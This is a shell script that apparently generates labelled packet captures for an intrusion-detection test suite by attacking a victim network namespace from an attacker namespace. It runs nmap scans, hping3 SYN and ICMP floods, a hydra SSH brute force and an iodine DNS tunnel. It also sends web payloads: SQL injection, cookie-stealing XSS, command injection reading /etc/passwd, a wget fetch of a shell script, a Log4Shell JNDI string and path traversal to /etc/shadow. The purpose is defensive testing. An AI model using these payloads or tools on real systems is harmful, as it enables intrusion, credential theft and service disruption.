#!/usr/bin/env bash
# Makes the labelled captures in tests/fixtures/labelled/ with real tools between two network
# namespaces: nsmlab-a (attacker, 10.77.0.1, fd77::1) and nsmlab-v (victim, 10.77.0.2, fd77::2)
# joined by a veth pair. Every capture is recorded by tcpdump on the victim's side of the veth,
# so only traffic between the two namespaces is in it. The namespaces are always deleted.
#
# Needs root and: nmap hping3 hydra openssh-server iodine dnsutils curl python3 tcpdump.
# Usage: tests/tools/make_labelled_captures.sh [OUT_DIR]   (default: tests/fixtures/labelled)
# Writes OUT_DIR/*.pcap and OUT_DIR/README.md (file, command, ground truth).
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE/../fixtures/labelled}
A=nsmlab-a
V=nsmlab-v
A4=10.77.0.1
V4=10.77.0.2
A6=fd77::1
V6=fd77::2
WORK=$(mktemp -d)
PIDS=()

cleanup() {
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    # Anything still running inside the two namespaces was started here.
    for ns in "$A" "$V"; do
        for p in $(ip netns pids "$ns" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
    done
    wait 2>/dev/null || true
    ip netns del "$A" 2>/dev/null || true
    ip netns del "$V" 2>/dev/null || true
    rm -rf "$WORK"
}
trap cleanup EXIT

in_a() { ip netns exec "$A" "$@"; }
in_v() { ip netns exec "$V" "$@"; }

setup() {
    ip netns del "$A" 2>/dev/null || true
    ip netns del "$V" 2>/dev/null || true
    ip netns add "$A"
    ip netns add "$V"
    ip link add veth-a netns "$A" type veth peer name veth-v netns "$V"
    in_a ip addr add "$A4/24" dev veth-a
    in_v ip addr add "$V4/24" dev veth-v
    in_a ip addr add "$A6/64" dev veth-a nodad
    in_v ip addr add "$V6/64" dev veth-v nodad
    for ns in "$A" "$V"; do
        ip -n "$ns" link set lo up
    done
    in_a ip link set veth-a up
    in_v ip link set veth-v up
    # Router solicitations and MLD reports are noise in small fixtures.
    for ns in "$A" "$V"; do
        ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.router_solicitations=0 || true
    done
    sleep 1
    in_a ping -c 1 -W 2 "$V4" >/dev/null
    in_a ping -6 -c 1 -W 2 "$V6" >/dev/null
}

start_bg() { # start_bg NS CMD...: run a server in namespace NS, remembered for cleanup
    local ns=$1
    shift
    ip netns exec "$ns" "$@" &
    PIDS+=("$!")
}

stop_bg() { # stop_bg PID
    kill "$1" 2>/dev/null || true
    wait "$1" 2>/dev/null || true
}

README_ROWS=()

# capture NAME SNAPLEN MAXPKTS CATEGORY SOURCE -- CMD...: record CMD's traffic into NAME.pcap.
capture() {
    local name=$1 snap=$2 max=$3 category=$4 source=$5
    shift 6
    local raw="$WORK/$name.raw.pcap" out="$OUT/$name.pcap"
    in_v tcpdump -Z root -U -n -i veth-v -s "$snap" -w "$raw" 2>/dev/null &
    local tpid=$!
    sleep 1
    "$@" >"$WORK/$name.log" 2>&1 || true
    sleep 1
    stop_bg "$tpid"
    tcpdump -Z root -r "$raw" -c "$max" -w "$out" 2>/dev/null
    local n
    n=$(tcpdump -r "$out" -n 2>/dev/null | wc -l)
    echo "$name: $n packets, $(stat -c %s "$out") bytes" >&2
    local cmd="$*"
    cmd=${cmd//$WORK/\$WORK}
    cmd=$(echo "$cmd" | tr -s ' \n' ' ' | sed 's/|/\\|/g')
    README_ROWS+=("| \`$name.pcap\` | $n | $category | $source | \`$cmd\` |")
}

attacks() {
    capture scan_syn 96 3000 port_scan "$A4" -- \
        in_a nmap -n -Pn -sS -T4 -p 1-300 "$V4"
    capture scan_xmas 96 3000 xmas_scan "$A4" -- \
        in_a nmap -n -Pn -sX -T4 -p 1-100 "$V4"
    capture scan_null 96 3000 null_scan "$A4" -- \
        in_a nmap -n -Pn -sN -T4 -p 1-100 "$V4"
    capture scan_fin 96 3000 fin_scan "$A4" -- \
        in_a nmap -n -Pn -sF -T4 -p 1-100 "$V4"
    capture scan_ipv6 128 3000 port_scan "$A6" -- \
        in_a nmap -6 -n -Pn -sS -T4 -p 1-200 "$V6"
    capture flood_syn 64 3000 syn_flood "$A4" -- \
        in_a timeout 2 hping3 -q -S -p 80 --flood "$V4"
    capture flood_icmp 64 3000 icmp_flood "$A4" -- \
        in_a timeout 2 hping3 -q -1 --flood "$V4"
    ssh_brute_force
    iodine_tunnel
    web_attacks
}

ssh_brute_force() {
    ssh-keygen -q -t ed25519 -N '' -f "$WORK/hostkey"
    mkdir -p /run/sshd
    cat >"$WORK/sshd_config" <<EOF
ListenAddress $V4
Port 22
HostKey $WORK/hostkey
PidFile $WORK/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin yes
MaxStartups 100
EOF
    start_bg "$V" /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
    local sshd=$!
    for i in $(seq 1 120); do echo "guess$i"; done >"$WORK/passwords.txt"
    sleep 1
    capture bruteforce_ssh 96 3000 brute_force "$A4" -- \
        in_a timeout 300 hydra -l root -P "$WORK/passwords.txt" -t 4 -I "ssh://$V4"
    stop_bg "$sshd"
}

iodine_tunnel() {
    start_bg "$V" iodined -f -c -P secret 10.78.0.1 tunnel.test
    local server=$!
    sleep 1
    capture dns_tunnel_iodine 512 1500 dns_tunnel "$A4" -- \
        in_a bash -c "iodine -f -r -P secret $V4 tunnel.test & c=\$!; sleep 4; \
            ping -c 10 -i 0.3 10.78.0.1; kill \$c; wait \$c"
    stop_bg "$server"
}

web_payloads() {
    local u="http://$V4:8080"
    curl -s -o /dev/null "$u/item?id=1%27%20OR%201%3D1--"
    curl -s -o /dev/null "$u/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users"
    curl -s -o /dev/null --data "name=x'; DROP TABLE users;--" "$u/form"
    curl -s -o /dev/null "$u/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
    curl -s -o /dev/null --data "host=127.0.0.1;cat /etc/passwd" "$u/ping"
    curl -s -o /dev/null --data "cmd=x; wget http://10.77.0.1/x.sh" "$u/run"
    curl -s -o /dev/null -H 'User-Agent: ${jndi:ldap://10.77.0.1:1389/a}' "$u/"
    curl -s -o /dev/null --path-as-is "$u/../../../../etc/passwd"
    curl -s -o /dev/null "$u/download?file=..%2F..%2F..%2Fetc%2Fshadow"
}

web_attacks() {
    mkdir -p "$WORK/www"
    echo '<html><body>hello</body></html>' >"$WORK/www/index.html"
    start_bg "$V" python3 -m http.server 8080 --bind "$V4" --directory "$WORK/www"
    local server=$!
    sleep 1
    capture web_attacks 1514 3000 'SQL Injection, Cross-Site Scripting, Command Injection, Log4Shell, Path Traversal (signature types)' "$A4" -- \
        in_a env V4="$V4" bash -c "$(declare -f web_payloads); web_payloads"
    capture benign_http 1514 3000 benign '-' -- \
        in_a bash -c "for p in / /index.html / /index.html /missing.png; do \
            curl -s -o /dev/null http://$V4:8080\$p; done"
    stop_bg "$server"
}

benign() {
    cat >"$WORK/dns.py" <<'EOF'
# A tiny DNS responder: answers every A query with 10.77.0.80, everything else with NXDOMAIN.
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 53))
while True:
    q, peer = s.recvfrom(512)
    end = 12
    while q[end] != 0:
        end += q[end] + 1
    qtype = struct.unpack("!H", q[end + 1:end + 3])[0]
    question = q[12:end + 5]
    if qtype == 1:
        hdr = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00"
        ans = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x01\x2c\x00\x04" + bytes([10, 77, 0, 80])
    else:
        hdr = q[:2] + b"\x81\x83\x00\x01\x00\x00\x00\x00\x00\x00"
        ans = b""
    s.sendto(hdr + question + ans, peer)
EOF
    start_bg "$V" python3 "$WORK/dns.py" "$V4"
    local server=$!
    sleep 1
    capture benign_dns 512 3000 benign '-' -- \
        in_a bash -c "for n in www.example.com mail.example.org debian.org github.com \
            www.wikipedia.org api.github.com cdn.jsdelivr.net fonts.googleapis.com \
            www.rust-lang.org crates.io; do dig +short +tries=1 +time=1 @$V4 \$n A; \
            dig +short +tries=1 +time=1 @$V4 \$n AAAA; done"
    stop_bg "$server"
    capture benign_ping 96 3000 benign '-' -- \
        in_a ping -c 10 -i 0.2 "$V4"
}

write_readme() {
    {
        echo "# Labelled captures"
        echo
        echo "Made by \`tests/tools/make_labelled_captures.sh\` with real tools between two network"
        echo "namespaces: \`nsmlab-a\` (attacker, $A4 / $A6) and \`nsmlab-v\` (victim, $V4 / $V6),"
        echo "joined by a veth pair; tcpdump recorded each one on the victim's side. The commands"
        echo "below ran in the attacker namespace (\`in_a\`); the servers ran in the victim"
        echo "namespace: sshd with its own config and a throwaway host key, \`iodined -f -c -P secret"
        echo "10.78.0.1 tunnel.test\`, \`python3 -m http.server 8080\`, and a 20-line DNS responder"
        echo "that answers every A query with 10.77.0.80. Ground truth: the category the capture"
        echo "must raise and the attacker address it must be raised for; \`benign\` captures must"
        echo "raise nothing above Low. \`tests/detect_labelled.rs\` checks both. hydra's"
        echo "\`\$WORK/passwords.txt\` holds guess1 ... guess120; sshd ran with its defaults"
        echo "(MaxAuthTries 6), so hydra reconnects after every few tries."
        echo
        echo "| file | packets | ground truth | source | command |"
        echo "|---|---|---|---|---|"
        printf '%s\n' "${README_ROWS[@]}"
    } >"$OUT/README.md"
}

mkdir -p "$OUT"
setup
attacks
benign
write_readme
echo "wrote $(ls "$OUT"/*.pcap | wc -l) captures to $OUT" >&2
